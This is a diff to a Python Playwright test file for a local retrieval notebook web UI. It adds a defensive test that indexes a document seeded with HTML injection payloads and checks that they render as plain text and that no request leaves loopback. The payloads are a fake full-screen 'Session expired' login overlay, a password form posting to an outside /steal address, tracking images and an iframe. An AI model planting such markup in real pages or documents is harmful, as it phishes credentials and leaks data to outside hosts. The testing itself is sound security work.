@@ -49,17 +49,18 @@ def notebook(seeds_notebook, seeds_home, tmp_path_factory):
     return nb
 
 
+def serve_page(notebook, port: int) -> Iterator[str]:
+    """The notebook page served the way `rag serve` serves it (behind ui.guard), on loopback; its URL."""
+    from ui.app import build_app, start
+
+    server = start(build_app(notebook), "127.0.0.1", port)
+    yield f"http://127.0.0.1:{port}/"
+    server.close()
+
+
 @pytest.fixture(scope="module")
 def url(notebook, free_port) -> Iterator[str]:
-    from ui.app import build_app, launch_options
-
-    app = build_app(notebook)
-    port = free_port()
-    app.queue().launch(
-        server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True, **launch_options()
-    )
-    yield f"http://127.0.0.1:{port}/"
-    app.close()
+    yield from serve_page(notebook, free_port())
 
 
 @pytest.fixture(scope="module")
@@ -241,3 +242,129 @@ def test_reindex_reports_what_changed(page):
     page.click("#reindex")
     page.wait_for_function("() => document.querySelector('#status').innerText.includes('未變更 5')")
     assert "新增 0" in page.inner_text("#status")
+
+
+# ---- hostile documents ----------------------------------------------------------------------------------------
+OUTSIDE = "198.51.100.7"  # TEST-NET-2: nothing answers there, and the page must never ask
+HOSTILE = f"""# Harbor Lighthouse Log
+
+The Harbor Lighthouse keeper lights the lamp at six every evening <img src="http://{OUTSIDE}/pixel.png"> and writes \
+the weather in the log.
+
+The lighthouse tower was painted red in 1921 <a href="http://{OUTSIDE}/login" style="position:fixed;top:0;left:0;\
+width:100%;height:100%;background:#fff;z-index:9999">Session expired, click to log in again</a> by the harbor crew.
+
+Visitors sign the guest book at the door <form action="http://{OUTSIDE}/steal" method="post"><input type="password" \
+name="pw" placeholder="Password"><button>Sign</button></form> before climbing the stairs.
+
+The lens of the lamp came from Paris <iframe src="http://{OUTSIDE}/frame"></iframe> in a wooden crate.
+
+The keeper's cat is called Biscuit ![pixel](http://{OUTSIDE}/md.png) and sleeps beside the lamp.
+"""
+# Each answer quotes one payload sentence (the extractive answerer quotes the document's own sentences).
+HOSTILE_QUESTIONS = {
+    "What does the Harbor Lighthouse keeper do every evening?": f'<img src="http://{OUTSIDE}/pixel.png">',
+    "When was the lighthouse tower painted red?": "Session expired, click to log in again</a>",
+    "Where did the lens of the lamp come from?": "<iframe src=",
+    "What is the keeper's cat called?": f"![pixel](http://{OUTSIDE}/md.png)",
+    "Where do visitors sign the guest book?": '<input type="password"',  # last: the copy check below
+}
+# A document whose title is a payload: titles show in the document list, the remove picker and the status line.
+NOTICE = f"""# Notice <img src="http://{OUTSIDE}/title.png"> <a href="http://{OUTSIDE}/x" style="position:fixed;inset:0">Log in</a>
+
+The harbor office opens at nine on weekdays & closes at noon on Saturdays.
+"""
+# Elements a document must never bring into the page, wherever its text is shown.
+LIVE_MARKUP = """() => {
+  // where document text is shown: chat messages, passages, the source panel (nothing of Gradio's own inside)
+  const text = ['#chatbot .message-content', '#passages .passage', '#source-panel .source-doc'];
+  // and Gradio blocks showing titles and file names (their own inputs and styles aside)
+  const lists = ['#status', '#scope', '#remove-pick'];
+  const found = [];
+  const look = (areas, tags) => {
+    for (const area of areas) {
+      for (const el of document.querySelectorAll(tags.map(tag => `${area} ${tag}`).join(', '))) {
+        found.push(el.outerHTML.slice(0, 120));
+      }
+      for (const a of document.querySelectorAll(`${area} a`)) {
+        if (!(a.getAttribute('href') || '').startsWith('#')) found.push(a.outerHTML.slice(0, 120));
+      }
+    }
+  };
+  look(text, ['img', 'form', 'input', 'iframe', 'button', 'svg', '[style]']);
+  look(lists, ['img', 'form', 'iframe', '[style*="fixed"]']);
+  for (const el of document.querySelectorAll('[src*="OUTSIDE"], [href*="OUTSIDE"], [action*="OUTSIDE"]')) {
+    found.push(el.outerHTML.slice(0, 120));
+  }
+  return [...new Set(found)];
+}""".replace("OUTSIDE", OUTSIDE)
+
+
+@pytest.fixture(scope="module")
+def hostile_url(seeds_notebook, tmp_path_factory, free_port) -> Iterator[str]:
+    """A notebook holding one document full of HTML payloads, served on loopback."""
+    from rag import Notebook
+
+    home = tmp_path_factory.mktemp("hostile-home")
+    (home / "seeds").mkdir()
+    (home / "seeds" / "lighthouse.md").write_text(HOSTILE, encoding="utf-8")
+    (home / "seeds" / "notice.md").write_text(NOTICE, encoding="utf-8")
+    nb = Notebook(
+        path=home / ".rag",
+        home=home,
+        seeds=home / "seeds",
+        embedder=seeds_notebook.embedder,
+        dense_embedder=seeds_notebook.dense_embedder,
+    )
+    assert nb.index(home / "seeds", progress=False).added == 2
+    yield from serve_page(nb, free_port())
+
+
+def test_document_html_is_shown_as_text_and_nothing_leaves_loopback(browser, hostile_url):
+    page = open_page(browser, hostile_url, locale="en-US")
+    try:
+        for question, payload in HOSTILE_QUESTIONS.items():
+            reply = ask(page, question)
+            assert payload in reply and "[1]" in reply, reply  # the markup is there, as characters
+            assert payload in page.inner_text("#passages")
+            page.locator("#chatbot [data-testid='bot']").last.locator("a.cite", has_text="[1]").first.click()
+            page.wait_for_function(
+                "(p) => document.querySelector('#source-panel mark')?.innerText.includes(p)", arg=payload
+            )
+        # The copy button copies the answer as written, not as the escaped text the page received.
+        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+        page.locator("#chatbot button[aria-label='Copy message']").last.click()
+        copied = page.evaluate("() => navigator.clipboard.readText()")
+        assert '<input type="password"' in copied and "&lt;" not in copied and "[1]" in copied
+        # The user's own question quoting a payload is text too, and so are search-only results.
+        question = f'When was the tower painted <img src="http://{OUTSIDE}/question.png">?'
+        ask(page, question)
+        assert question in page.locator("#chatbot [data-testid='user']").last.inner_text()
+        page.click("#mode label:has-text('Search only')")
+        ask(page, "lighthouse lamp guest book")
+        assert page.locator("#passages .passage.hit").count() >= 1
+        assert f"http://{OUTSIDE}/steal" in page.inner_text("#passages")
+        page.locator("#passages .passage.hit a.cite").first.click()
+        page.locator("#source-panel mark").first.wait_for(state="visible")
+        # Messages are text that keeps its line breaks.
+        assert page.evaluate("() => getComputedStyle(document.querySelector('#chatbot .md')).whiteSpace") == "pre-wrap"
+
+        # A title made of markup is text in the document list, the remove picker and the status line.
+        assert page.locator("#scope label", has_text="notice.md").count() == 1
+        assert page.evaluate(LIVE_MARKUP) == []
+        page.click("#remove-pick input")
+        page.get_by_role("option").filter(has_text="notice.md").click()
+        page.click("#remove")
+        page.wait_for_function("() => document.querySelector('#status').innerText.includes('notice.md')")
+        assert f'Notice <img src="http://{OUTSIDE}/title.png">' in page.inner_text("#status")
+        assert page.evaluate(LIVE_MARKUP) == []
+        assert (
+            page.locator("text=Session expired, click to log in again").first.evaluate(
+                "e => getComputedStyle(e).position"
+            )
+            != "fixed"
+        )
+    finally:
+        offsite = [u for u in page.requests if not u.startswith(("http://127.0.0.1", "data:", "blob:"))]
+        page.context.close()
+    assert not offsite, f"the page reached outside loopback: {offsite}"
